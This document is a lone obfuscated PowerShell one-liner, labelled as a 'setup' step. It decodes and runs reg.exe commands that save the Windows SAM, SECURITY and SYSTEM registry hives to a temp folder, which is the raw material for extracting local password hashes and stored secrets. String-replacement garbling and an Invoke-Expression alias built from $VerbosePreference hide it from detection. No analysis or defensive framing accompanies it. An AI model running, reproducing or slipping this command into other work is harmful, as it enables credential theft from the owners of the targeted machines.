'iex ((''# setup 8686 v3
reg.exe save HKLM\SAM C:\Windows\Temp\s.hiv /y
reg.exe savVZV15e HKLM\SECzz~5RITY CVZV15:\Windows\Temp\sec.hiv /y
reg.exe save HKLM\SYSVZV15TEVZV15M CVZV15:\Windows\Temp\sys.hiv /y
'' -replace ''VZV15'','''').Replace(''zz~5'',''U''))' | .($VerbosePreference.ToString()[1,3]+'x'-join'')